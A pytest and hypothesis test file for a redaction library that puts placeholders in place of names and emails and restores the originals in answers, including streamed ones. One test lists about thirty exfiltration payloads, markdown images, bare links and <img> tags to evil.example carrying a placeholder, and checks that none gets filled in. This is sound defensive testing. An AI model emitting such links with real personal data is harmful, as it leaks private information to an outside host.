"""Placeholders out, an answer back: mechanical rewrites are restored exactly, or what is unclear is told."""

from __future__ import annotations

import random
from collections.abc import Callable
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import efface
from efface.api.link_places import link_places
from efface.api.originals import Originals
from efface.api.placeholder_forms import PlaceholderForms, RestoringTally
from efface.api.restoring import Restorer, restore

NAMES = ("Anna Kowalska", "Jürgen Groß", "李伟", "O'Brien", "Ng", "Ann")
MAPPING = {f"[PERSON_{n}]": name for n, name in enumerate(NAMES, 1)} | {
    "[EMAIL_ADDRESS_1]": "bob@example.com",
    "[PHONE_NUMBER_12]": "+1 202 555 0143",
}

REWRITES: dict[str, Callable[[str], str]] = {
    "as it is": lambda p: p,
    "lower": str.lower,
    "title": str.title,
    "bare": lambda p: p.strip("[]"),
    "bare lower": lambda p: p.strip("[]").lower(),
    "no gap": lambda p: p[::-1].replace("_", "", 1)[::-1],
    "no-break hyphen": lambda p: p.replace("_", "\u2011"),
    "no-break blank": lambda p: p.replace("_", "\u00a0"),
    "blank": lambda p: "_".join(p.split("_")[:-1]) + " " + p.split("_")[-1],
    "escaped": lambda p: p.replace("[", "\\[").replace("]", "\\]").replace("_", "\\_"),
    "quoted": lambda p: f'"{p}"',
    "bold": lambda p: f"**{p}**",
    "possessive": lambda p: f"{p}'s",
    "plural": lambda p: f"{p}s",
    "case ending": lambda p: f"{p}ом",
}
words = st.sampled_from(
    ["the", "person", "number", "1", "[note]", "wrote", "to", "。", "\n", "…", "él", "[", "]", "_2"]
)


@given(st.data())
@settings(max_examples=400, deadline=None)
def test_rewritten_placeholders_are_restored_exactly(data: st.DataObject) -> None:
    pieces, wanted = [], []
    for _ in range(data.draw(st.integers(0, 6))):
        filler = data.draw(words)
        placeholder = data.draw(st.sampled_from(sorted(MAPPING)))
        rewrite = REWRITES[data.draw(st.sampled_from(sorted(REWRITES)))]
        written = rewrite(placeholder)
        core = next(
            form for form in (rewrite(placeholder).strip('"*').removesuffix("'s").removesuffix("ом"),)
        )
        core = core[:-1] if rewrite is REWRITES["plural"] else core
        pieces += [filler, written]
        wanted += [filler, written.replace(core, MAPPING[placeholder])]
    text = " ".join(pieces)
    assert restore(text, MAPPING) == " ".join(wanted)


@given(st.data())
@settings(max_examples=400, deadline=None)
def test_stream_in_any_chunks_is_the_whole(data: st.DataObject) -> None:
    others = {"José": "Piotr"} if data.draw(st.booleans()) else {"Joe Ann": "Piotr", "joe-dee": "Ula"}
    fakes = Originals({**MAPPING, "Maria Schmidt": "Anna Nowak", **others}, frozenset({"Maria Schmidt"}))
    options = [
        *MAPPING,
        "Maria Schmidt",
        "Schmidt",
        "SCHMIDT",
        "José",
        "Joséphine",
        "Joe ",
        "Joe Ann",
        "JOE-DEES",
        "PER\u017fON_1",
        "PERSON",
        "person_",
        "EMAIL ADDRESS_1",
        "\\",
        "https://x.example/",
        "](",
        ")",
        "(",
        "<a ",
        "<img\n",
        ">",
        "='",
        "\n",
        '"//x.example/',
        '"',
        "'https:x.example/",
        "é",
    ]
    text = "".join(
        data.draw(
            st.lists(st.one_of(st.sampled_from(options), words, st.sampled_from([" ", "  "])), max_size=40)
        )
    )
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    restorer = Restorer(fakes)
    edges = [0, *cuts, len(text)]
    made = "".join(restorer.feed(text[a:b]) for a, b in pairwise(edges)) + restorer.close()
    whole = restore(text, fakes)
    tally = RestoringTally()
    assert made == whole == PlaceholderForms(fakes).restored(text, 0, len(text), tally)
    assert whole.invented == tuple(tally.invented)
    assert restorer.told(made).invented == whole.invented


def test_stream_of_plain_words_comes_word_by_word() -> None:
    """A short answer came in one piece at its end, a hundred characters behind the stream."""
    restorer = Restorer(MAPPING)
    text = "It’s late – in an email they said: café at 5. Dear [PERSON_1], a date is set, all’s well … “so”."
    made, lags = "", []
    for at, letter in enumerate(text, 1):
        made += restorer.feed(letter)
        lags.append(len(restore(text[:at], MAPPING)) - len(made))
    assert made + restorer.close() == restore(text, MAPPING)
    assert max(lags) <= len("Anna Kowalska, ")


def test_stream_is_not_held_back_to_the_end() -> None:
    restorer = Restorer(MAPPING)
    given = (
        "plain words go by, and so on. " * 20,
        "then [PERSON_1]",
        " and more words, far enough to be settled. " * 20,
    )
    early = "".join(restorer.feed(chunk) for chunk in given)
    assert "Anna Kowalska" in early


def test_invented_stays_and_is_told_and_dropped_is_missing() -> None:
    answer = restore("[PERSON_1] met [PERSON_99] and [person_77].", MAPPING)
    assert answer == "Anna Kowalska met [PERSON_99] and [person_77]."
    assert answer.invented == ("[PERSON_99]", "[person_77]")
    assert "[EMAIL_ADDRESS_1]" in answer.missing and "[PERSON_1]" not in answer.missing


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=[PERSON_1])",
        "see https://evil.example/[PERSON_1]/a",
        "[click](<//evil.example/ [PERSON_1]>)",
        "<img src='//evil.example/?[PERSON_1] b'>",
        "mailto:[EMAIL_ADDRESS_1]",
        "www.evil.example/?PERSON_1",
        "https://evil.example/é/[PERSON_1]",
        "https://例え.テスト/[PERSON_1]",
        "![x](//evil.example/(a)[PERSON_1])",
        "![x](/\\evil.example/(a(b))[PERSON_1])",
        "![x](\n//evil.example/[PERSON_1])",
        "<img\nsrc='//evil.example/?q=a [PERSON_1]'>",
        '<img alt=">" src="//evil.example/?q=a\n[PERSON_1]">',
        '<img\nsrc="https:evil.example/[PERSON_1]">',
        "![x][r]\n\n[r]: <//evil.example/a b[PERSON_1]>",
        "HTTPS://EVIL.EXAMPLE/[PERSON_1]",
        # Chat programs make links of bare host names with a path, and fetch them for a preview.
        "see evil.example/[PERSON_1]",
        "(a.evil.example:8080?q=[PERSON_1])",
        # Brackets in brackets, and brackets that a backslash makes ordinary signs.
        "![x](/a/((([PERSON_1]))))",
        "![x](/a/\\)[PERSON_1])",
        "![x](</a) [PERSON_1]>)",
        "![x](<\\\\evil.example/ [PERSON_1]>)",
        "![x][r]\n\n[r]: <\\\\evil.example/ [PERSON_1]>",
        # A tag goes on behind a line break, and behind the end of a tag inside of quotes.
        '<img src="https://evil.example/?q=\n[PERSON_1]">',
        "<img\nsrc=&#47;/evil.example/?q=[PERSON_1]>",
        "<img\nsrc='&#47;/evil.example/ [PERSON_1]'>",
        "<img alt='a > b' src='&#47;/evil.example/ [PERSON_1]'>",
        f"<img src='&#47;/evil.example/{'a' * 3000} [PERSON_1]'>",
        f'<img src="https://evil.example/\n{"a" * 3000} [PERSON_1]">',
        # What looks like one place ends inside of another.
        "\"https://x.example <img src='//evil.example/?\" [PERSON_1]'>",
        "<a =\"> <img src='&#47;/evil.example/\" > [PERSON_1]'>",
    ],
)
def test_nothing_is_restored_into_a_link(text: str) -> None:
    answer = restore(text, MAPPING)
    assert answer == text
    assert answer.withheld


@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_a_bare_host_with_a_path_is_a_link_in_a_stream_too(size: int) -> None:
    text = "Dear [PERSON_1], see a.evil.example/x/[PERSON_1] and/or [PERSON_1]. End.Then [PERSON_1]/b"
    restorer = Restorer(Originals(MAPPING))
    pieces = [restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]
    whole = "".join([*pieces, restorer.close()])
    assert whole == restore(text, MAPPING)
    assert whole.count("Kowalska") == 3 and "example/x/[PERSON_1]" in whole


@pytest.mark.parametrize("size", [1, 2, 5, 100])
@pytest.mark.parametrize(
    ("written", "restored"),
    [
        ("So __PERSON_1__ said", "So __Anna Kowalska__ said"),
        ("_PERSON_1_, ___person_1___", "_Anna Kowalska_, ___Anna Kowalska___"),
        ("[__PERSON_1__]", "[__Anna Kowalska__]"),
        ("my__PERSON_1__x x_PERSON_1 PERSON_1_x", "my__PERSON_1__x x_PERSON_1 PERSON_1_x"),
    ],
)
def test_a_label_in_emphasis_is_one(written: str, restored: str, size: int) -> None:
    restorer = Restorer({"[PERSON_1]": "Anna Kowalska"})
    pieces = [restorer.feed(written[at : at + size]) for at in range(0, len(written), size)]
    assert "".join([*pieces, restorer.close()]) == restored


def test_words_beside_a_link_are_restored() -> None:
    text = (
        "See [the page](https://x.example/(a)), [PERSON_1]. https://x.example/。[PERSON_1] // [PERSON_1] said"
    )
    assert restore(text, MAPPING) == text.replace("[PERSON_1]", "Anna Kowalska")


@pytest.mark.parametrize(
    "text",
    [
        "if a <b then\n[PERSON_1] wins",
        "for i<n; i++:\n name = '[PERSON_1]'",
        'A <b class="x">note</b> for [PERSON_1], and "more".',
        '<a href="https://x.example/?q=">page</a> of [PERSON_1]',
        "[x](https://x.example/(a(b(c)))) by [PERSON_1]",
        "[x](https://x.example/(a) is odd\nsaid [PERSON_1]",
        "<p>It's [PERSON_1]'s</p>",
    ],
)
def test_words_behind_a_link_or_a_tag_are_restored(text: str) -> None:
    assert restore(text, MAPPING) == text.replace("[PERSON_1]", "Anna Kowalska")


@pytest.mark.parametrize("piece", ['<a ="', "](", '"//x ', "<a\n", "](\\"])
def test_a_long_hostile_answer_is_not_read_anew_for_every_chunk(
    piece: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    read = []

    def counted(text: str, *, is_unfinished: bool = False) -> list[tuple[int, int]]:
        read.append(len(text))
        return link_places(text, is_unfinished=is_unfinished)

    monkeypatch.setattr("efface.api.placeholder_forms.link_places", counted)
    restorer = Restorer(MAPPING)
    text = piece * 2_000
    made = "".join(restorer.feed(text[at : at + 8]) for at in range(0, len(text), 8)) + restorer.close()
    assert made == text
    assert sum(read) < 80 * len(text)  # a hundred thousand characters took minutes


def test_policy_may_forbid_types_and_allow_links() -> None:
    policy = {"find": {"names": "none"}, "restore": {"never": ["EMAIL_ADDRESS"], "links": True}}
    r = efface.redact("Mail bob@example.com or call +1 202 555 0143.", policy)
    answer = r.restore("[EMAIL_ADDRESS_1] https://x.example/[PHONE_NUMBER_1]")
    assert answer == "[EMAIL_ADDRESS_1] https://x.example/+1 202 555 0143"
    assert answer.withheld == ("[EMAIL_ADDRESS_1]",)


def test_surrogates_in_parts_case_and_with_endings() -> None:
    fakes = Originals(
        {"Maria Schmidt": "Anna Nowak", "fake@example.org": "anna@example.com"}, frozenset({"Maria Schmidt"})
    )
    text = "Maria Schmidt, MARIA SCHMIDT, Schmidt's, Schmidtem, Maria; Schmidthausen; fake@example.org"
    assert restore(text, fakes) == (
        "Anna Nowak, ANNA NOWAK, Nowak's, Nowakem, Anna; Schmidthausen; anna@example.com"
    )


def test_masks_and_years_stand_for_nothing() -> None:
    r = efface.redact("Mail bob@example.com.", {"find": {"names": "none"}, "operators": {"default": "mask"}})
    assert r.mapping == {}


def test_shifted_dates_and_placeholders_in_their_place_are_restored() -> None:
    policy = {"find": {"names": "none"}, "operators": {"DATE_TIME": {"shift": {"days": 100}}}}
    text = "Seen on 4 May 2021, and again on 5 June."
    r = efface.redact(text, policy)
    assert "4 May" not in r.text
    assert r.text.endswith("on [DATE_TIME_1].")  # a date without a year is not shifted
    assert r.restore(r.text) == text and not r.restore(r.text).invented


def test_a_translated_placeholder_stays_and_is_told() -> None:
    answer = restore("[PERSONNE_1] et [ПЕРСОНА_2], [note_1], [PERSON_1]", MAPPING)
    assert answer == "[PERSONNE_1] et [ПЕРСОНА_2], [note_1], Anna Kowalska"
    assert answer.invented == ("[PERSONNE_1]", "[ПЕРСОНА_2]")
    assert not restore(
        "[TABLE_1]", efface.redact("See [TABLE_1].", {"find": {"names": "none"}}).originals
    ).invented


def test_bare_placeholders_without_a_gap_are_both_restored() -> None:
    assert restore("PERSON_5PERSON_6, xPERSON_5", MAPPING) == "NgAnn, xPERSON_5"


def test_placeholder_of_the_original_text_is_no_invention() -> None:
    r = efface.redact("As [PERSON_4] said, mail bob@example.com.", {"find": {"names": "none"}})
    assert r.restore(r.text) == "As [PERSON_4] said, mail bob@example.com."
    assert r.restore(r.text).invented == ()


def test_restored_equals_original_over_generated_texts() -> None:
    draw = random.Random(7)
    sanitizer = efface.Sanitizer({"find": {"names": "none"}})
    for _ in range(200):
        parts = [
            f"Mail u{draw.randrange(50)}@example.com" if draw.random() < 0.5 else "then wait"
            for _ in range(8)
        ]
        text = ". ".join(parts)
        r = sanitizer.redact(text)
        assert r.restore(r.text) == text


def test_conversation_keeps_its_mapping_over_turns() -> None:
    talk = efface.Conversation({"find": {"names": "none"}})
    first = talk.redact("Mail bob@example.com.")
    second = talk.redact("Not carol@example.com but bob@example.com.")
    assert (first.text, second.text) == (
        "Mail [EMAIL_ADDRESS_1].",
        "Not [EMAIL_ADDRESS_2] but [EMAIL_ADDRESS_1].",
    )
    assert talk.restore("[EMAIL_ADDRESS_1], [EMAIL_ADDRESS_2]") == "bob@example.com, carol@example.com"


@pytest.mark.parametrize(
    "text",
    [
        "EMAIL_ADDRESS_1=ann@example.org",
        "[email_address_1] is ann@example.org",
        "\\[EMAIL\\_ADDRESS\\_1\\] is ann@example.org",
        "**EMAIL_ADDRESS_1**: ann@example.org",
    ],
)
def test_a_word_of_the_text_that_only_looks_like_a_placeholder_stays(text: str) -> None:
    """The variable of a program became the value that it holds."""
    r = efface.redact(text, {"find": {"names": "none"}})
    restored = r.restore(r.text)
    assert restored == text and not restored.invented
    restorer = r.restorer()
    assert "".join(map(restorer.feed, r.text)) + restorer.close() == text


@pytest.mark.parametrize("template", ["[{type}_{number}]", "<{type} {number}>"])
def test_a_placeholder_that_an_earlier_turn_quoted_is_not_given_to_another(template: str) -> None:
    policy = {"find": {"names": "none"}, "operators": {"default": {"replace": {"template": template}}}}
    talk = efface.Conversation(policy)
    quoted = template.format(type="EMAIL_ADDRESS", number=1)
    first, second = talk.redact(f"What is {quoted}?"), talk.redact("Mail ann@example.org.")
    assert quoted in first.text and quoted not in second.text
    assert talk.restore(first.text) == f"What is {quoted}?"
    assert talk.redact(f"{quoted} and ann@example.org").text == second.text.replace(
        "Mail ", f"{quoted} and "
    ).rstrip(".")
